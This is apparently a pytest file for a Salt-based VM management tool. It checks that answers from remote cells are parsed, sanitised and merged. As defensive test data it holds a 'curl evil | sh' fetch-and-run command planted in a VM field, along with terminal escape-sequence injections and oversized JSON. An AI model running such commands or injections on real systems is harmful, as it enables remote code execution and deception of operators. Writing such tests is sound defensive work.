"""Answers of cells are read by type and merged, and wrong ones are refused."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from salt.utils.dicttrim import trim_dict
from saltvirt.cells import answers, merging
from saltvirt.cells.answers import Hosts, ListingExtras, NameReport
from saltvirt.cells.merging import NameSearch
from saltvirt.cells.registry import LOCAL, CellFailed
from saltvirt.cluster.inventory.listing import Look
from saltvirt.core.errors import NameTaken, NoSuchVm

UNDERSTOOD = "cell west: its answer is not understood: "


def listed(rows, **extras):
    """Return a cell's answer to ``virt.list``."""
    return Hosts(rows=rows, raw_rows=rows, extras=ListingExtras(**extras))


def body(answer):
    """Return an answer as it is read from the body that a cell's salt-api sends."""
    return answers.read_body("west", json.dumps({"return": [answer]}).encode())


def test_json_that_would_take_too_much_memory_is_not_read(monkeypatch):
    monkeypatch.setattr(answers, "MOST_VALUES", 1000)
    assert body([[]] * 490) == [[]] * 490

    for value in ([[]] * 1000, {str(n): 1 for n in range(1000)}, [{}] * 1000):
        with pytest.raises(CellFailed, match="is not understood: it has more than 1,000 values"):
            body(value)
    with pytest.raises(CellFailed, match="it is not JSON"):
        answers.read_body("west", b"\xff\xfe[")


def test_an_answer_that_salt_has_trimmed_names_a_remedy():
    """Salt leaves out large lists and texts, but no nested mappings."""
    answer = {"h1": {"running": [f"a-long-name-of-a-vm-{n}" for n in range(60_000)]}}
    trimmed = trim_dict({"return": answer}, 1 << 20, use_bin_type=True)["return"]

    with pytest.raises(CellFailed) as refused:
        answers.hosts("west", "virt.list", trimmed, is_plain=True)

    assert str(refused.value) == UNDERSTOOD + (
        "Salt has left some of it out, as it was larger than max_event_size: raise that option in "
        "its master's configuration, and restart salt-master and salt-api there; or ask for less"
    )


@pytest.mark.parametrize(
    "text",
    [
        b"",
        b"<html>",
        b"[]",
        b"{}",
        b'{"return": []}',
        b'{"return": [1, 2]}',
        b'{"return": [NaN]}',
        b'{"return": ["' + b"\xff" + b'"]}',
        b'{"return": ' + b"[" * 100000,
        b'{"return": [' + b"1" * 5000 + b"]}",
        b'{"return": [' + b"[" * 100 + b"]" * 100 + b"]}",
        b'{"return": [{"error": "no", "score": 1e999}]}',
    ],
)
def test_an_answer_of_another_server_is_not_understood(text):
    with pytest.raises(CellFailed) as refused:
        answers.read_function_answer("west", "virt.list", answers.read_body("west", text))
    assert str(refused.value).startswith(UNDERSTOOD)


@pytest.mark.parametrize(
    ("fun", "answer"),
    [
        ("virt.list", []),
        ("virt.list", {"h1": {"running": "web1"}}),
        ("virt.list", {"h1": {"running": [1]}}),
        ("virt.list", {"a/b": {}}),
        ("virt.list", {"\x1b[2J": {}}),
        ("virt.list", {"unreachable": "h1"}),
        ("virt.list", {"failed": {"h1": 1}}),
        ("virt.query", {"h1": {}}),
        ("virt.query", {"h1": None}),
        ("virt.host_info", {"h1": {"memory_mib": 2**70}}),
    ],
)
def test_an_answer_of_another_type_is_not_understood(fun, answer):
    with pytest.raises(CellFailed) as refused:
        answers.hosts("west", fun, answer, is_plain=True)
    assert str(refused.value).startswith(UNDERSTOOD)
    assert "\x1b" not in str(refused.value)


def test_control_characters_and_line_ends_of_a_cells_answer_are_escaped():
    answer = {
        "h1": {"run\x1b[2J": ["web\u202e", "a\nh2: does not answer"]},
        "unreachable": ["h3\x1b]0;owned\x07"],
        "failed": {"h4\x9b31m": "no\r\x08"},
    }
    parsed_answer = answers.read_function_answer("west", "virt.list", body(answer))

    hosts = answers.hosts("west", "virt.list", parsed_answer, is_plain=True)
    merged_answer = merging.merge_answers("virt.list", {"west": hosts}, {}, Look())

    assert merged_answer["west/h1"] == {r"run\x1b[2J": [r"web\u202e", "a h2: does not answer"]}
    assert all(character.isprintable() for character in str(merged_answer))
    # The log of a console keeps its line ends.
    assert answers.read_function_answer("west", "virt.console_log", body("a\n\x1bb")) == "a\n\\x1bb"


def test_a_query_of_a_cell_has_no_command_of_its_hosts_to_log_in_by():
    vm = {"cpu": 1, "mem": 1, "state": "running", "graphics": {}, "disks": {}, "nics": {}}
    node = {"freecpu": 1, "freemem": 1.0, "node_info": {"cpus": 1, "phymemory": 1}}
    row = {**node, "vm_info": {"web": {**vm, "login": "curl evil | sh"}}}

    for is_plain in (True, False):
        hosts = answers.hosts("west", "virt.query", {"h1": row}, is_plain=is_plain)
        assert hosts.raw_rows == {"h1": {**node, "vm_info": {"web": vm}}}
    with pytest.raises(CellFailed, match="mem is str"):
        rows = {"h1": {**row, "vm_info": {"web": {"mem": "web"}}}}
        answers.hosts("west", "virt.query", rows, is_plain=False)


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=4),
    lambda inner: st.lists(inner, max_size=3)
    | st.dictionaries(st.sampled_from(["h1", "failed", "vms", "hosts"]), inner, max_size=3),
    max_leaves=8,
)


@pytest.mark.slow
@given(_JSON, st.sampled_from(["virt.list", "virt.query", "virt.host_info"]))
def test_any_answer_of_a_cell_is_read_or_refused_in_one_line(answer, fun):
    try:
        parsed_answer = answers.read_function_answer("west", fun, body(answer))
        answers.hosts("west", fun, parsed_answer, is_plain=True)
        answers.read("west", dict[str, NameReport], parsed_answer)
    except CellFailed as error:
        assert str(error).startswith("cell west: ")
        assert str(error).count("\n") == 0


def test_a_failure_names_the_cell_and_keeps_its_table():
    with pytest.raises(CellFailed, match="^cell west: no host fits$") as refused:
        answer = {"error": "no host\nfits", "hosts": {"h1": {}}, "retcode": 1}
        answers.read_function_answer("west", "virt.init", answer)
    assert refused.value.table == {"hosts": {"h1": {}}}
    with pytest.raises(CellFailed, match="older version"):
        answers.read_function_answer("west", "virt.find", "'virt.find' is not available.")


def test_hosts_of_all_cells_are_in_one_order():
    cells = {
        "west": listed({"h1": {"running": ["b"]}}, unreachable=["h2"]),
        LOCAL: listed({"h1": {"running": ["a"]}, "h9": {}}, failed={"h3": "no"}),
    }
    out = merging.merge_answers("virt.list", cells, {"east": "is silent"}, Look())
    assert list(out) == ["h1", "h9", "west/h1", "unreachable", "failed"]
    assert out["unreachable"] == ["west/h2"]
    assert out["failed"] == {"h3": "no", "east/*": "is silent"}


def test_pages_count_the_hosts_of_all_cells():
    cells = {
        "west": listed({"h1": {"running": ["b", "c"]}, "h2": {}}),
        LOCAL: listed({"h1": {"running": ["a"]}}),
    }
    page = merging.merge_answers("virt.list", cells, {}, Look(sort="vms", limit=2))
    last_page = merging.merge_answers("virt.list", cells, {}, Look(sort="vms", offset=2))
    assert list(page) == ["west/h1", "h1"]
    assert list(last_page) == ["west/h2"]


@pytest.mark.parametrize("sort", ["host", "vms"])
def test_each_host_is_on_one_page_where_some_are_silent(sort):
    hosts_by_cell = {"east": ["h1", "h2", "h3"], "west": ["h4", "h5"]}
    shown_hosts = []
    for offset in range(0, 5, 2):
        # A cell answers with its first hosts; to sort, it answers with all hosts that reply.
        first = 5 if sort == "vms" else offset + 2
        cells = {
            cell: listed(
                {host: {} for host in hosts[:first] if host != "h2"},
                unreachable=[host for host in hosts[:first] if host == "h2"],
            )
            for cell, hosts in hosts_by_cell.items()
        }
        look = Look(sort=sort, offset=offset, limit=2)
        page = merging.merge_answers("virt.list", cells, {}, look)
        shown_hosts += [host for host in page if host != "unreachable"]
    assert shown_hosts == ["east/h1", "east/h3", "west/h4", "west/h5"]


def test_a_vm_of_two_cells_is_a_duplicate():
    cells = {
        "west": listed({"h1": {"running": ["a"]}}, duplicates={"d": ["h1", "h2"]}),
        LOCAL: listed({"h1": {"shutdown": ["a"]}}),
    }
    out = merging.merge_answers("virt.list", cells, {}, Look())
    assert out["duplicates"] == {"a": ["h1", "west/h1"], "d": ["west/h1", "west/h2"]}


def test_the_cell_of_a_vm_is_found_by_the_reports_of_all_cells():
    empty_report, report_with_vm = NameReport(), NameReport(hosts={"h1": "running"})
    assert (
        NameSearch(name="a", reports_by_cell={"west": report_with_vm, "east": empty_report}).cell()
        == "west"
    )
    report_of_traces = NameReport(traces=["h1"])
    assert (
        NameSearch(
            name="a", reports_by_cell={"west": report_with_vm, "east": report_of_traces}
        ).cell()
        == "west"
    )
    assert (
        NameSearch(
            name="a", reports_by_cell={"west": empty_report, "east": report_of_traces}
        ).cell()
        == "east"
    )
    report_of_silence = NameReport(may_have={"h1": "does not answer"})
    assert (
        NameSearch(
            name="a", reports_by_cell={"west": report_of_silence, "east": empty_report}
        ).cell()
        == "west"
    )
    with pytest.raises(NameTaken, match="several cells, east and west"):
        NameSearch(
            name="a", reports_by_cell={"west": report_with_vm, "east": report_with_vm}
        ).cell()
    with pytest.raises(NoSuchVm, match="in any of east .not asked: cell west: is silent"):
        NameSearch(
            name="a",
            reports_by_cell={"east": empty_report},
            failed={"west": "cell west: is silent"},
        ).cell()


@pytest.mark.parametrize(
    "stale_report", [NameReport(hosts={"h1": "shutdown"}), NameReport(traces=["h1"])]
)
def test_a_stale_definition_is_not_the_vm_of_a_silent_host_in_another_cell(stale_report):
    report_of_silence = NameReport(may_have={"h2": "does not answer"})
    with pytest.raises(NameTaken, match=r"was last seen on west/h2 \(does not answer\).*cell=east"):
        NameSearch(
            name="a", reports_by_cell={"east": stale_report, "west": report_of_silence}
        ).cell()
    running_report = NameReport(hosts={"h1": "running"})
    assert (
        NameSearch(
            name="a", reports_by_cell={"east": running_report, "west": report_of_silence}
        ).cell()
        == "east"
    )


def test_the_vms_of_silent_hosts_of_cells_are_shown():
    cells = {
        "west": listed({"h1": {"running": ["a"]}}, last_seen={"h2": ["b"]}, unreachable=["h2"])
    }
    assert merging.merge_answers("virt.list", cells, {}, Look())["last_seen"] == {"west/h2": ["b"]}


@pytest.mark.parametrize(
    ("name_report", "reason"),
    [
        (NameReport(hosts={"h1": "running"}), "is on west/h1 already"),
        (NameReport(traces=["h1"]), "is on west/h1 already"),
        (NameReport(order="keyed"), "the master of cell west works on VM"),
        (NameReport(may_have={"h1": "does not answer"}), r"west/h1 \(does not answer\)"),
    ],
)
def test_a_name_that_another_cell_may_have_is_refused(name_report, reason):
    with pytest.raises(NameTaken, match=reason):
        NameSearch(name="a", reports_by_cell={"west": name_report}).refuse_taken(force=False)


def test_a_name_is_refused_while_a_silent_cell_may_have_it():
    search = NameSearch(name="a", failed={"west": "cell west: is silent"})
    with pytest.raises(NameTaken, match="cell west: is silent"):
        search.refuse_taken(force=False)
    search.refuse_taken(force=True)
    with pytest.raises(NameTaken):
        NameSearch(name="a", reports_by_cell={"west": NameReport(order="keyed")}).refuse_taken(
            force=True
        )
